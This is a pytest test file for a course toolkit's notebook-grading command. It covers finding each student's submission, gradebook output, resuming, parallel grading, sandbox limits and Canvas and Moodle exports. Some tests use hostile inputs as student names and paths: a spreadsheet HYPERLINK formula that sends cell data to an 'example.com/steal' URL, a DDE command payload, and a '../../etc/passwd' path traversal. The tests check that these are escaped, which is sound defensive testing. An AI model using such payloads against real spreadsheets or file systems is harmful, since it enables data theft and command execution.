"""`dlkit grade`: whose notebook is whose, the gradebook it writes, resuming, --jobs and --dask,
the per-submission limits, and the real lab 00 graded from the command line."""

from __future__ import annotations

import csv
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from dlkit.course import check
from dlkit.instructor.grading.exercises import lab_exercises
from dlkit.instructor.grading.grader import grade_class
from dlkit.instructor.grading.options import GradeOptions, Limits
from dlkit.instructor.grading.submissions import find_submissions
from grading_notebooks import (  # tests/ is on pytest's pythonpath
    LAB_00,
    RIGHT_CONVOLUTION,
    RIGHT_POOLING,
    SETUP,
    WRONG_CONVOLUTION,
    notebook,
    sandbox_or_skip,
    write,
)

pytestmark = pytest.mark.notebooks  # every test here runs students' notebooks in real kernels

ROOT = Path(__file__).resolve().parents[1]
QUIET = {"progress": lambda line: None}


def read_csv(out: Path) -> list[dict]:
    with open(out / "gradebook.csv", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_every_lab_names_two_exercises_each_a_dlkit_checker():
    found = {lab.stem[:2]: lab_exercises(lab) for lab in sorted((ROOT / "labs").glob("*.ipynb"))}
    assert {number: len(exercises) for number, exercises in found.items()} == {f"0{n}": 2 for n in range(8)}
    checkers = [exercise.checker for exercises in found.values() for exercise in exercises]
    assert sorted(checkers) == sorted(name for name in check.__all__ if name != "Verdict")
    assert [(e.checker, e.args) for e in found["00"]] == [
        ("conv2d_valid", ("my_conv2d_valid",)),
        ("max_pool", ("my_max_pool",)),
    ]


def test_students_are_named_by_canvas_moodle_and_folder_rules(tmp_path):
    right = json.dumps(notebook(SETUP))
    files = {
        "canvas/smithjane_4242_99381_lab00.ipynb": right,
        "canvas/doejohn_late_5151_99400_lab00-1.ipynb": right,
        "moodle/Ana María Ruiz_777_assignsubmission_file_/lab00.ipynb": right,
        "moodle/Li Wei_778_assignsubmission_file_lab00.ipynb": right,
        "moodle/Li Wei_779_assignsubmission_file_lab 00.ipynb": right,
        "plain/alice/work/lab00.ipynb": right,
        "plain/bob.ipynb": right,
        "plain/.ipynb_checkpoints/bob-checkpoint.ipynb": right,
        "plain/__MACOSX/._bob.ipynb": "junk",
        "plain/carol/lab00.py": "print('not a notebook')",
    }
    for name, text in files.items():
        write(tmp_path / name, text)
    found = {
        submission.student: submission
        for folder in ("canvas", "moodle", "plain")
        for submission in find_submissions(tmp_path / folder)
    }
    assert set(found) == {
        "smithjane",
        "doejohn",
        "Ana María Ruiz",
        "Li Wei (778)",
        "Li Wei (779)",
        "alice",
        "bob",
        "carol",
    }
    assert found["alice"].path == "alice/work/lab00.ipynb"
    assert not found["carol"].is_notebook


def zip_of(path: Path, members: dict[str, str]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as zipped:
        for name, text in members.items():
            zipped.writestr(name, text)
    return path


def test_a_students_own_zip_is_theirs_and_its_notebook_is_graded(tmp_path):
    right = json.dumps(notebook(SETUP))
    zip_of(tmp_path / "plain" / "dave" / "handin.zip", {"handin/lab00.ipynb": right, "handin/data.csv": "1"})
    zip_of(tmp_path / "plain" / "erin.zip", {"lab00.ipynb": right, "__MACOSX/._lab00.ipynb": "junk"})
    zip_of(tmp_path / "plain" / "fay.zip", {"notes.txt": "I forgot the notebook"})
    (tmp_path / "plain" / "gus.zip").write_bytes(b"PK\x03\x04 not really a zip")
    zip_of(tmp_path / "canvas" / "smithjane_4242_99381_lab00.zip", {"lab00.ipynb": right})
    found = {
        submission.student: submission
        for folder in ("canvas", "plain")
        for submission in find_submissions(tmp_path / folder)
    }
    assert found["dave"].path == "dave/handin.zip/handin/lab00.ipynb" and found["dave"].is_notebook
    assert found["erin"].path == "erin.zip/lab00.ipynb" and found["erin"].data == right.encode()
    assert found["smithjane"].path == "smithjane_4242_99381_lab00.zip/lab00.ipynb"
    assert not found["fay"].is_notebook and not found["gus"].is_notebook  # each gets a no-notebook row
    assert set(found) == {"dave", "erin", "fay", "gus", "smithjane"}


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
    from dlkit.instructor.grading.gradebook import Gradebook
    from dlkit.instructor.grading.records import ExerciseResult, GradeResult

    book = Gradebook(tmp_path, "00_foundations", ["conv2d_valid"])
    names = ['=HYPERLINK("http://example.com/steal?"&A1,"grade")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "bob"]
    book.write_csv([GradeResult(name, f"{name}/lab00.ipynb", "0" * 64, "ok",
                                exercises=[ExerciseResult("conv2d_valid", 1, "fine")]) for name in names])
    book.close()
    table = read_csv(tmp_path)
    assert [row["student"] for row in table] == ["'" + name for name in names[:3]] + ["bob"]
    assert all(row["file"].startswith("'") for row in table[:3]) and table[3]["file"] == "bob/lab00.ipynb"
    assert [row["conv2d_valid"] for row in table] == ["1"] * 4


def test_every_student_gets_a_feedback_page_of_their_own_on_every_os(tmp_path):
    from dlkit.instructor.grading.feedback import feedback_file_name

    students = ["bob", "a/b", "a_b", "CON", "con", "nul", "x" * 100, "x" * 100 + "y", "../../etc/passwd",
                "Ana María Ruiz"]
    names = [feedback_file_name(student) for student in students]
    assert len(set(names)) == len(students)  # none writes over another
    assert names[0] == "bob.html" and names[-1] == "Ana María Ruiz.html"
    for name in names:
        assert (tmp_path / name).parent == tmp_path and len(name) <= 90
        assert name.split(".")[0].upper() not in {"CON", "NUL"}  # Windows' device names
        (tmp_path / name).write_text("page")  # a name this file system takes


def test_the_newest_of_two_files_counts_and_the_other_is_listed(tmp_path):
    sandbox_or_skip()
    older = write(tmp_path / "in" / "dana" / "first try.ipynb", notebook(SETUP, WRONG_CONVOLUTION))
    newer = write(tmp_path / "in" / "dana" / "final.ipynb", notebook(SETUP, RIGHT_CONVOLUTION, RIGHT_POOLING))
    os.utime(older, (time.time() - 3600,) * 2)
    os.utime(newer, (time.time(),) * 2)
    grade_class(LAB_00, tmp_path / "in", tmp_path / "out", **QUIET)
    rows = read_csv(tmp_path / "out")
    assert [(row["file"], row["status"], row["total"]) for row in rows] == [
        ("dana/final.ipynb", "ok", "2"),
        ("dana/first try.ipynb", "superseded", "0"),
    ]


def test_submissions_are_read_inside_a_zip_without_extracting_it(tmp_path):
    sandbox_or_skip()
    archive = tmp_path / "submissions.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("evanseve_31_402_lab00.ipynb", json.dumps(notebook(SETUP, RIGHT_CONVOLUTION)))
    grade_class(LAB_00, archive, tmp_path / "out", **QUIET)
    assert [(row["student"], row["conv2d_valid"]) for row in read_csv(tmp_path / "out")] == [
        ("evanseve", "1")
    ]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out", "submissions.zip"]


def small_class(folder: Path) -> Path:
    write(folder / "ann" / "lab00.ipynb", notebook(SETUP, RIGHT_CONVOLUTION, RIGHT_POOLING))
    write(folder / "ben" / "lab00.ipynb", notebook(SETUP, WRONG_CONVOLUTION, RIGHT_POOLING))
    write(folder / "cat" / "lab00.ipynb", notebook(SETUP, RIGHT_CONVOLUTION))
    return folder


def test_a_second_run_grades_only_new_or_changed_notebooks_and_regrade_redoes_all(tmp_path):
    sandbox_or_skip()
    submissions, out = small_class(tmp_path / "in"), tmp_path / "out"
    grade_class(LAB_00, submissions, out, **QUIET)
    write(submissions / "ben" / "lab00.ipynb", notebook(SETUP, RIGHT_CONVOLUTION, RIGHT_POOLING))
    said = []
    grade_class(LAB_00, submissions, out, progress=said.append)
    assert said[0] == "1 to grade, 2 unchanged since the last run"
    assert [row["total"] for row in read_csv(out)] == ["2", "2", "1"]
    grade_class(LAB_00, submissions, out, GradeOptions(regrade=True), progress=said.append)
    assert said[-4] == "3 to grade, 0 unchanged since the last run"
    with sqlite3.connect(out / "gradebook.sqlite") as database:
        runs = database.execute("SELECT COUNT(*) FROM runs WHERE finished IS NOT NULL").fetchone()[0]
        graded = database.execute(
            "SELECT student, COUNT(*) FROM grades GROUP BY student ORDER BY student"
        ).fetchall()
        hashes = database.execute(
            "SELECT COUNT(DISTINCT sha256) FROM grades WHERE student = 'ben'"
        ).fetchone()[0]
    assert (runs, graded, hashes) == (3, [("ann", 2), ("ben", 3), ("cat", 2)], 2)


def test_an_interrupted_grader_keeps_every_finished_grade(tmp_path):
    sandbox_or_skip()
    submissions, out = small_class(tmp_path / "in"), tmp_path / "out"
    write(submissions / "ben" / "lab00.ipynb", notebook(SETUP, "import time\ntime.sleep(60)"))
    grader = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "dlkit.instructor.cli",
            "grade",
            str(LAB_00),
            str(submissions),
            "--out",
            str(out),
        ],
        stdout=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and "ann: ok" not in grader.stdout.readline():
        pass
    os.killpg(grader.pid, signal.SIGKILL)  # as a closed laptop or a lost SSH session stops it
    grader.wait()
    with sqlite3.connect(out / "gradebook.sqlite") as database:
        assert database.execute("SELECT student, total FROM grades").fetchall() == [("ann", 2)]
    write(submissions / "ben" / "lab00.ipynb", notebook(SETUP, RIGHT_POOLING))
    said = []
    grade_class(LAB_00, submissions, out, progress=said.append)
    assert said[0] == "2 to grade, 1 unchanged since the last run"
    assert [(row["student"], row["total"]) for row in read_csv(out)] == [
        ("ann", "2"),
        ("ben", "1"),
        ("cat", "1"),
    ]


def test_two_jobs_and_a_dask_cluster_write_the_same_gradebook(tmp_path):
    sandbox_or_skip()
    distributed = pytest.importorskip("distributed")
    submissions = small_class(tmp_path / "in")
    grade_class(LAB_00, submissions, tmp_path / "jobs", GradeOptions(jobs=2), **QUIET)
    with distributed.LocalCluster(
        n_workers=2, threads_per_worker=1, processes=True, dashboard_address=None
    ) as cluster:
        grade_class(
            LAB_00,
            submissions,
            tmp_path / "dask",
            GradeOptions(dask_address=cluster.scheduler_address),
            **QUIET,
        )
    assert read_csv(tmp_path / "jobs") == read_csv(tmp_path / "dask")
    assert [row["total"] for row in read_csv(tmp_path / "dask")] == ["2", "1", "1"]


def test_a_whole_submission_past_its_time_or_disk_limit_is_stopped(tmp_path):
    sandbox_or_skip()
    slow = ["import time\ntime.sleep(2)"] * 6
    write(tmp_path / "in" / "slow" / "lab00.ipynb", notebook(SETUP, RIGHT_CONVOLUTION, *slow, RIGHT_POOLING))
    write(
        tmp_path / "in" / "filler" / "lab00.ipynb",
        notebook(
            SETUP,
            RIGHT_CONVOLUTION,
            "block = b'x' * 2**20\nwith open('filler.bin', 'wb') as f:\n"
            "    while True:\n        f.write(block)",
        ),
    )
    limits = Limits(cell_seconds=30, submission_seconds=6, disk_bytes=50 * 2**20)
    rows = {
        row.student: row
        for row in grade_class(
            LAB_00, tmp_path / "in", tmp_path / "out", GradeOptions(jobs=2, limits=limits), **QUIET
        )
    }
    assert rows["slow"].status == "timeout" and "6-second limit for a whole submission" in rows["slow"].reason
    assert rows["filler"].status == "disk-limit"
    assert [score.points for score in rows["slow"].exercises] == [1, 0]


def test_without_a_sandbox_the_gradebook_says_so(tmp_path):
    write(tmp_path / "in" / "ann.ipynb", notebook(SETUP, RIGHT_CONVOLUTION, RIGHT_POOLING))
    rows = grade_class(LAB_00, tmp_path / "in", tmp_path / "out", GradeOptions(sandbox="none"), **QUIET)
    assert [(row["sandboxed"], row["total"]) for row in read_csv(tmp_path / "out")] == [("no", "2")]
    assert "not sandboxed: asked for with --sandbox none" in rows[0].notes


def test_the_real_lab_00_is_graded_from_the_command_line(tmp_path):
    sandbox_or_skip()
    submissions = tmp_path / "in"
    write(submissions / "instructor" / "lab00.ipynb", LAB_00.read_text(encoding="utf-8"))
    copies = tmp_path / "copies"
    subprocess.run(
        [sys.executable, "-m", "dlkit.instructor.cli", "student-copy", "00", "--out", str(copies)],
        check=True,
        capture_output=True,
    )
    write(submissions / "student" / "lab00.ipynb", (copies / LAB_00.name).read_text(encoding="utf-8"))
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "dlkit.instructor.cli",
            "grade",
            "00",
            str(submissions),
            "--out",
            str(tmp_path / "out"),
            "--jobs",
            "2",
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode == 0, run.stderr
    assert "2 students graded, 1 with every exercise passed" in run.stdout
    assert [(row["student"], row["status"], row["total"]) for row in read_csv(tmp_path / "out")] == [
        ("instructor", "ok", "2"),
        ("student", "ok", "0"),
    ]
    page = (tmp_path / "out" / "feedback" / "student.html").read_text(encoding="utf-8")
    assert "fill in the cell above first" in page and "BEGIN SOLUTION" not in page


def test_a_lab_without_exercises_or_submissions_without_notebooks_is_refused(tmp_path, capsys):
    from dlkit.instructor.cli import main

    write(tmp_path / "in" / "notes.txt", "nothing here")
    assert main(["grade", "00", str(tmp_path / "in"), "--out", str(tmp_path / "out")]) == 1
    assert "no notebooks (.ipynb) in it" in capsys.readouterr().err


def test_the_docs_list_every_status_and_show_the_benchmarks_stored_figures():
    import importlib.util

    from dlkit.instructor.grading.records import STATUSES

    page = (ROOT / "docs" / "grading.md").read_text(encoding="utf-8")
    for status, meaning in STATUSES.items():
        assert f"| `{status}` | {meaning.replace('os._exit', '`os._exit`')} |" in page
    spec = importlib.util.spec_from_file_location("grading_benchmark", ROOT / "benchmarks" / "grading.py")
    benchmark = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(benchmark)
    stored = json.loads(benchmark.RESULTS.read_text(encoding="utf-8"))
    assert benchmark.figures_table(stored) in page


def test_canvas_and_moodle_files_hold_each_students_grade_under_their_platform_id(tmp_path):
    """Read as the platforms' importers read them: Canvas by its export's columns and the user id,
    Moodle's assignment worksheet as mod/assign/feedback/offline/importgradeslib.php does (the
    columns named exactly, "Participant <id>", a grade within the maximum, a readable time)."""
    from datetime import datetime

    from dlkit.instructor.grading.lms import (
        CANVAS_FILE,
        CANVAS_HEADER,
        MOODLE_FILE,
        MOODLE_PARTICIPANT,
        MOODLE_TIME,
    )

    both = notebook(SETUP, RIGHT_CONVOLUTION, RIGHT_POOLING)
    write(tmp_path / "canvas" / "smithjane_4242_99381_lab00.ipynb", both)
    write(tmp_path / "canvas" / "doejohn_late_5151_99400_lab00.ipynb", notebook(SETUP, RIGHT_POOLING))
    write(tmp_path / "moodle" / "Ana María Ruiz_777_assignsubmission_file_" / "lab00.ipynb", both)
    write(tmp_path / "moodle" / "=cmd_778_assignsubmission_file_" / "lab00.ipynb", notebook(SETUP))
    options = GradeOptions(sandbox="none")
    said = []
    grade_class(LAB_00, tmp_path / "canvas", tmp_path / "out-canvas", options, progress=said.append)
    assert f"{CANVAS_FILE}: 2 students, for the LMS's gradebook import" in said
    grade_class(LAB_00, tmp_path / "moodle", tmp_path / "out-moodle", options, **QUIET)

    with open(tmp_path / "out-canvas" / CANVAS_FILE, encoding="utf-8", newline="") as file:
        canvas = list(csv.reader(file))
    assert tuple(canvas[0][:5]) == CANVAS_HEADER and canvas[0][5] == LAB_00.stem
    assert canvas[1][0].strip() == "Points Possible" and canvas[1][5] == "2"
    assert {row[1]: float(row[5]) for row in canvas[2:]} == {"4242": 2.0, "5151": 1.0}
    assert not (tmp_path / "out-canvas" / MOODLE_FILE).exists()

    with open(tmp_path / "out-moodle" / MOODLE_FILE, encoding="utf-8", newline="") as file:
        header, *records = list(csv.reader(file))
    identifier, grade, modified = (header.index(name) for name in
                                   ("Identifier", "Grade", "Last modified (grade)"))
    by_participant = {}
    for record in records:
        assert record[identifier].startswith(MOODLE_PARTICIPANT)
        by_participant[record[identifier][len(MOODLE_PARTICIPANT):]] = float(record[grade])
        assert 0 <= float(record[grade]) <= float(record[header.index("Maximum Grade")])
        datetime.strptime(record[modified], MOODLE_TIME)
    assert by_participant == {"777": 2.0, "778": 0.0}
    names = [record[header.index("Full name")] for record in records]
    assert "Ana María Ruiz" in names and "'=cmd" in names  # never a formula in a spreadsheet
    assert "dlkit: 2/2" in records[names.index("Ana María Ruiz")][header.index("Feedback comments")]
